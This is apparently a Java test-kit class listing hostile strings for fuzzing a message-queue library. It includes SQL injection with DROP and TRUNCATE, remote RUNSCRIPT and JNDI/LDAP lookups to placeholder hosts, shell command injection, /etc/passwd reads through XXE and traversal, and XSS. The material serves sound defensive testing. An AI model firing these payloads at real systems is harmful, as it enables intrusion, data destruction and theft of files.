// SPDX-License-Identifier: Apache-2.0
package io.oncemq.testkit;

import java.util.ArrayList;
import java.util.List;

/** Texts that break what glues them into SQL, logs, patterns, paths or names. All different, none of them empty of intent. */
public final class HostileStrings {
    private static final String[] SQL = {
        "'", "''", "'''", "\"", "\"\"", "`", ";", ";;", "--", "-- ", "/*", "*/", "/**/", "#", "\\", "\\'", "\\\\'", "' OR '1'='1",
        "' OR 1=1--", "' OR 1=1#", "' OR 1=1/*", "') OR ('1'='1", "') OR 1=1--", "\" OR \"\"=\"", "1 OR 1=1", "1; SELECT 1",
        "'; DROP TABLE oncemq_delivery; --", "'; DROP TABLE oncemq_delivery CASCADE; --", "'); DELETE FROM oncemq_delivery; --",
        "'; TRUNCATE TABLE oncemq_message; --", "'; UPDATE oncemq_lane SET batch_no = 0; --", "'; SHUTDOWN; --",
        "'; SHUTDOWN IMMEDIATELY --", "'; SCRIPT TO '/tmp/x'; --", "'; RUNSCRIPT FROM 'http://x.invalid/x'; --",
        "'; CREATE ALIAS X AS 'void x() {}'; CALL X(); --", "'; CALL FILE_WRITE('x', '/tmp/x'); --", "' UNION SELECT NULL--",
        "' UNION ALL SELECT password FROM users--", "' AND SLEEP(5)--", "'; SELECT pg_sleep(5); --", "' || pg_sleep(5) || '",
        "'; COPY oncemq_message TO PROGRAM 'id'; --", "'; SELECT lo_import('/etc/passwd'); --", "$$", "$$; SELECT 1; $$",
        "$tag$; SELECT 1; $tag$", "E'\\x27'", "U&'\\0027'", "$1", "$2", ":name", ":queue", "?", "??", "??|", "?1", "{fn now()}",
        "{d '2020-01-01'}", "{call x()}", "{escape '!'}", "X'00'", "B'1'", "'::text", "'::regclass", "CAST('x' AS INT)", "CHAR(39)",
        "0x27", "%27", "%2527", "&apos;", "\u02bc OR 1=1", "\u2019 OR 1=1", "\uff07 OR 1=1", "\u00bf' OR 1=1", "';\n--\n", "'\r\n;",
    };
    private static final String[] WORDS = {
        "NULL", "null", "TRUE", "FALSE", "NOT", "AND", "OR", "BETWEEN", "LIKE", "IN", "IS", "ESCAPE", "SELECT", "select", "TABLE",
        "user", "USER", "CURRENT_USER", "DEFAULT", "NaN", "Infinity", "-0", "undefined", "None", "nil", "constructor", "__proto__",
        "toString", "class", "CON", "NUL", "aux.txt", "DLQ.", "DLQ.DLQ.x", "ID:", "ID:0", "JMSX", "JMSXDeliveryCount",
        "JMS_OnceMQ_x", "JMSMessageID", "oncemq_delivery", "pg_catalog", "INFORMATION_SCHEMA",
    };
    private static final String[] PATTERNS = {
        "%", "%%", "_", "__", "%_%", "\\%", "\\_", "!%", "a%b_c", "*", "**", ">", "#.", "a.*", "a.>", "a.#", ".*", "^$", "(", ")",
        "(a+)+$", "[", "]", "[^a]", "{", "}", "{0}", "|", "+", "?+", "\\Q", "\\E", "\\d", "~", "~/x",
    };
    private static final String[] TEMPLATES = {
        "%s", "%n", "%d%d%d%d", "%1$s", "%999999999s", "%x%x%n", "{}", "${x}", "${jndi:ldap://x.invalid/a}",
        "${${lower:j}ndi:rmi://x.invalid/a}", "${env:PATH}", "${java:version}", "#{7*7}", "${7*7}", "{{7*7}}", "<%= 7*7 %>",
        "@{x}", "$(id)", "`id`", "| id", "; id", "&& id", "> /tmp/x", "<script>alert(1)</script>", "<!--", "<![CDATA[", "]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&lt;", "javascript:alert(1)", "\"onload=\"x",
    };
    private static final String[] PATHS = {
        "/", "//", ".", "..", "../", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\host\\share", "file:///etc/passwd",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'", "ldap://x.invalid/a", "rmi://x.invalid/a", "java:comp/env", "a/b", "a;b", "a,b", "a=b",
        "a&b", "a:b", "a@b", "%2e%2e%2f", "..%c0%af", "x\u2215y",
    };
    private static final String[] UNICODE = {
        "\u00e9", "e\u0301", "\u212b", "\u00c5", "A\u030a", "\ufb01", "fi", "\u0430", "a", "\u0131", "i\u0307", "\u0130", "ß", "SS",
        "\u1e9e", "\uff21", "\u200b", "x\u200by", "\u200d", "\ufeff", "x\ufeff", "\u202e", "x\u202ey", "\u2066x\u2069", "\u05d0\u05d1",
        "\u0627\u0628", "\u65e5\u672c", "\ud83d\ude00", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67", "\ud840\udc00", "\udbff\udfff",
        "\uffff", "\ufffe", "\ufffd", "\ufdd0", "\ue000", "\u0300", "x" + "\u0300".repeat(100), "\u115f", "\u3164", "\u00ad", "\u034f",
    };
    private static final String[] BLANKS = {
        " ", "  ", "a ", " a", "a  b", "\u00a0", "\u2003", "\u3000", "\u2028", "\u2029", "\t", "\n", "\r", "\r\n", "a\nb", "a\tb", "\f",
        "\u000b",
    };
    private static final String[] CONTROLS = {
        "\u0000", "a\u0000b", "\u0000a", "a\u0000", "\u0001", "\u0007", "\b", "\u001a", "\u001b[31m", "\u001b]0;x\u0007", "\u007f",
        "\u0080", "\u0085", "\u009b31m",
    };
    private static final String[] HALVES = {"\ud800", "a\ud800", "\ud800a", "\udc00", "\udc00\ud800", "\udbff", "\ud83d x", "x\ude00"};

    private HostileStrings() {}

    /** All, some as long as a name may be and some far longer. */
    public static List<String> all() {
        List<String> all = new ArrayList<>();
        for (String[] each : new String[][] {SQL, WORDS, PATTERNS, TEMPLATES, PATHS, UNICODE, BLANKS, CONTROLS, HALVES}) {
            all.addAll(List.of(each));
        }
        all.add("x".repeat(255));
        all.add("'".repeat(255));
        all.add("\ud83d\ude00".repeat(127));
        all.add("x".repeat(256));
        all.add("y".repeat(100_000));
        all.add("(".repeat(5_000));
        all.add("NOT ".repeat(2_000));
        all.add("-".repeat(8_000) + "1=1");
        return List.copyOf(all);
    }
}
